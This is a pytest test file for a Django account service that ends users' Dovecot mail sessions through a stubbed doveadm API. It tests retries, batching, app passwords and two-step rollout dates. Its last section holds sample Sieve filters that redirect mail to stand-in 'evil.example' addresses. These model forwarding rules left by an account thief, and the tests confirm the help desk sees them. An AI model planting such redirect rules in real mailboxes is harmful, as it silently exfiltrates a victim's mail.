"""What mail programs have open ends on every mail server: asked twice, tried for a day, said aloud. With stand-ins for
Dovecot; tests/real/test_mail_endings.py has a real one."""

import logging
from collections.abc import Iterator
from datetime import timedelta

import pytest
import time_machine
from django.db import connection, transaction
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pytest_django import Settings

from accounts.log.models import SecurityEvent
from accounts.mailsessions import dovecot, mailsessions
from accounts.mailsessions.mailsessions import Why
from accounts.mailsessions.models import Ending
from accounts.rollouts import exemptions, switching
from accounts.sessions import endings
from accounts.sessions.endings import Occasion
from accounts.users.models import User
from apppasswords import passwords
from tests.conftest import MakeUser
from tests.kit import upkeep
from tests.kit.people import Person
from tests.kit.servers.doveadm_stub import KEY, DoveadmStub, doveadm_stub

NAME, OTHER = "wangwu@example.edu", "lisi@example.edu"
PHONE, DESK = "192.0.2.1", "192.0.2.2"


@pytest.fixture
def server(settings: Settings) -> Iterator[DoveadmStub]:
    settings.DOVEADM_API_KEY = KEY
    dovecot._silent_until.clear()
    with doveadm_stub() as stub:
        settings.DOVEADM_URLS = [stub.url]
        stub.connected = [(NAME, PHONE), (NAME, DESK), (OTHER, PHONE)]
        yield stub


def end(*names: str, why: Why = Why.NOT_ME, network: str = "") -> Ending:
    with TestCase.captureOnCommitCallbacks(execute=True):
        mailsessions.end(names or [NAME], why, network=network)
    return Ending.objects.latest("pk")


def sweep_after(clock: time_machine.Traveller, wait: timedelta) -> Ending:
    clock.shift(wait)
    upkeep.sweep()
    return Ending.objects.latest("pk")


pytestmark = pytest.mark.django_db


def test_one_person_is_out_and_nobody_else(server: DoveadmStub, make_user: MakeUser) -> None:
    user = make_user("wangwu")
    row = end()
    assert server.connected == [(OTHER, PHONE)]
    assert row.ended_at
    assert row.people == {NAME: 2}
    event = SecurityEvent.objects.get(kind="mail_ended")
    assert (event.user, event.detail) == (user, {"connections": 2})


def test_only_from_one_address(server: DoveadmStub) -> None:
    end(network=PHONE)
    assert server.connected == [(NAME, DESK), (OTHER, PHONE)]


@pytest.mark.bypass("a login that was allowed just before appears just after")
def test_who_appears_a_moment_later_is_out_too(server: DoveadmStub, clock: time_machine.Traveller) -> None:
    end()
    server.connected.append((NAME, PHONE))
    assert sweep_after(clock, timedelta(seconds=1)).working
    assert (NAME, PHONE) in server.connected
    row = sweep_after(clock, mailsessions.SETTLE)
    assert (NAME, PHONE) not in server.connected
    assert not row.working
    assert row.people == {NAME: 2}, "what the owner was told stays"
    server.connected.append((NAME, PHONE))
    sweep_after(clock, timedelta(hours=1))
    assert (NAME, PHONE) in server.connected, "later logins are new ones, and were allowed"


def test_a_revocation_that_is_rolled_back_ends_nothing(server: DoveadmStub) -> None:
    with TestCase.captureOnCommitCallbacks(execute=True), transaction.atomic():
        mailsessions.end([NAME], Why.NOT_ME)
        transaction.set_rollback(True)
    assert len(server.connected) == 3
    assert not Ending.objects.exists()


@pytest.mark.parametrize("fault", ["hangs", "resets", "another key", "html", "refuses"])
def test_a_server_that_is_away_is_asked_again_until_it_is_there(
    server: DoveadmStub, clock: time_machine.Traveller, fault: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dovecot, "TIMEOUT", 0.3)
    server.fault = fault
    row = end()
    assert row.is_late
    assert row.error
    assert NAME not in row.error
    assert KEY not in row.error
    server.fault = ""
    dovecot._silent_until.clear()
    assert sweep_after(clock, timedelta(seconds=10)).ended_at
    assert server.connected == [(OTHER, PHONE)]


def test_one_that_says_nothing_keeps_few_waiting(server: DoveadmStub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dovecot, "TIMEOUT", 0.3)
    server.fault = "hangs"
    for _ in range(5):
        assert end().is_late
    assert len(server.commands) == 1


def test_it_is_tried_for_a_day_and_then_said_aloud(
    server: DoveadmStub, clock: time_machine.Traveller, caplog: pytest.LogCaptureFixture
) -> None:
    server.fault = "resets"
    end()
    asked = []
    for _ in range(30):
        before = len(server.commands)
        row = sweep_after(clock, timedelta(hours=1))
        asked.append(len(server.commands) - before)
        if not row.working:
            break
    assert row.is_given_up
    assert row.asked_at + timedelta(days=1) < timezone.now() < row.asked_at + timedelta(days=1, hours=2)
    assert set(asked) == {1}
    loud = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
    assert len(loud) == 2, "after some minutes, and when it is given up"
    assert NAME not in "".join(loud)


def test_every_mail_server_has_to_do_it(server: DoveadmStub, settings: Settings, clock: time_machine.Traveller) -> None:
    with doveadm_stub() as second:
        settings.DOVEADM_URLS = [server.url, second.url]
        second.connected, second.fault = [(NAME, PHONE)], "resets"
        row = end()
        assert (NAME, PHONE) not in server.connected
        assert row.ended_at is None
        row = sweep_after(clock, timedelta(seconds=10))
        asked = len(server.commands)
        second.fault = ""
        row = sweep_after(clock, timedelta(minutes=5))
        assert row.ended_at
        assert row.people == {NAME: 3}
        assert not second.connected
        assert len(server.commands) == asked, "who has done it is left alone"


def test_a_server_that_was_taken_out_of_the_settings_is_not_waited_for(
    server: DoveadmStub, settings: Settings, clock: time_machine.Traveller
) -> None:
    server.fault = "resets"
    end()
    settings.DOVEADM_URLS = ["http://127.0.0.1:1"]
    assert not sweep_after(clock, timedelta(seconds=10)).working


def test_without_doveadm_nothing_is_promised(server: DoveadmStub, settings: Settings, make_user: MakeUser) -> None:
    settings.DOVEADM_URLS = []
    with TestCase.captureOnCommitCallbacks(execute=True):
        mailsessions.end([make_user("wangwu").username], Why.NOT_ME)
    assert mailsessions.latest(NAME) is None
    assert not server.commands


def test_thousands_take_two_questions_for_each_batch(server: DoveadmStub) -> None:
    """Who is connected is asked once; a command is sent only for who is."""
    names = [f"staff{n}@example.edu" for n in range(1500)]
    server.connected += [(name, DESK) for name in names[::100]]
    with CaptureQueriesContext(connection) as queries:
        end(*names)
    assert [len(commands) for commands in server.commands] == [1, 5] * 3
    assert (OTHER, PHONE) in server.connected
    assert len(server.connected) == 3
    assert len(queries) < 60
    assert SecurityEvent.objects.filter(kind="mail_ended").count() == 15


def test_whoever_is_deleted_is_out_too(server: DoveadmStub, make_user: MakeUser) -> None:
    user = make_user("wangwu")
    with TestCase.captureOnCommitCallbacks(execute=True):
        User.objects.filter(pk=user.pk).delete()
    assert server.connected == [(OTHER, PHONE)]
    assert SecurityEvent.objects.get(kind="mail_ended").username == NAME


# --- App passwords ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("every", [True, False])
def test_an_app_password_takes_what_is_connected_with_it(server: DoveadmStub, make_user: MakeUser, every: bool) -> None:
    user = make_user("wangwu")
    made = passwords.create(user, "phone")
    assert isinstance(made, tuple)
    with TestCase.captureOnCommitCallbacks(execute=True):
        assert passwords.remove_all(user) if every else passwords.remove(user, made[0].pk)
    assert server.connected == [(OTHER, PHONE)]


# --- When the date of two-step comes ---------------------------------------------------------------------------------


def test_the_mailbox_password_is_out_when_two_step_begins(
    server: DoveadmStub, make_user: MakeUser, clock: time_machine.Traveller
) -> None:
    user = make_user("wangwu", two_step=False)
    start = timezone.now() + timedelta(days=40)
    with TestCase.captureOnCommitCallbacks(execute=True):
        switching.switch_on([user.pk], start, actor=None)
    sweep_after(clock, timedelta(days=39))
    mailsessions.delete_expired()
    assert (NAME, PHONE) in server.connected
    sweep_after(clock, timedelta(days=1, seconds=1))
    assert (NAME, PHONE) not in server.connected


def test_a_date_that_moved_ends_nothing(
    server: DoveadmStub, make_user: MakeUser, clock: time_machine.Traveller
) -> None:
    user, clerk = make_user("wangwu", two_step=False), make_user("clerk", is_staff=True)
    with TestCase.captureOnCommitCallbacks(execute=True):
        switching.switch_on([user.pk], timezone.now() + timedelta(hours=1), actor=None)
        exemption = exemptions.make(user, timezone.now() + timedelta(days=3), "abroad", actor=clerk)
    sweep_after(clock, timedelta(hours=2))
    assert (NAME, PHONE) in server.connected
    with TestCase.captureOnCommitCallbacks(execute=True):
        exemptions.end(exemption, actor=clerk)
    assert (NAME, PHONE) not in server.connected


def test_an_exception_that_is_over_ends_it(
    server: DoveadmStub, make_user: MakeUser, clock: time_machine.Traveller
) -> None:
    user, clerk = make_user("wangwu"), make_user("clerk", is_staff=True)
    with TestCase.captureOnCommitCallbacks(execute=True):
        exemptions.make(user, timezone.now() + timedelta(days=3), "abroad", actor=clerk)
    sweep_after(clock, timedelta(days=3, seconds=1))
    assert (NAME, PHONE) not in server.connected


# --- Filters that somebody left ---------------------------------------------------------------------------------------

FORWARDS = 'require ["include", "copy"];\ninclude :personal "more";\nredirect :copy "a@evil.example";'


def stolen(user: User) -> mailsessions.Told:
    with TestCase.captureOnCommitCallbacks(execute=True):
        endings.end(Occasion.STOLEN, user)
    told = mailsessions.latest(user.username)
    assert told
    return told


def test_the_desk_sees_where_a_thief_sends_mail_on(server: DoveadmStub, make_user: MakeUser, office: Person) -> None:
    server.scripts = {"main": FORWARDS, "more": 'redirect "b@evil.example";'}
    user = make_user("wangwu")
    assert stolen(user).forwards == ["a@evil.example", "b@evil.example"]
    assert "a@evil.example, b@evil.example" in office.get(reverse("admin:desk", args=[user.pk])).content.decode()


def test_a_script_that_is_not_active_sends_nothing(server: DoveadmStub, make_user: MakeUser) -> None:
    server.scripts = {"main": "keep;", "old": 'redirect "b@evil.example";'}
    assert stolen(make_user("wangwu")).forwards == []


def test_nothing_is_said_of_filters_that_nobody_could_look_at(server: DoveadmStub, make_user: MakeUser) -> None:
    """A mail server whose settings are from before; what is connected ends all the same."""
    server.scripts, server.fault = {"main": FORWARDS}, "knows no sieve"
    told = stolen(make_user("wangwu"))
    assert told.forwards is None
    assert told.row.ended_at
    assert told.connections == 2


def test_filters_are_nobody_s_business_otherwise(server: DoveadmStub) -> None:
    server.scripts = {"main": FORWARDS}
    assert end(why=Why.NEW_PASSWORD).forwards is None
    assert "sieveList" not in {command for commands in server.commands for command in commands}
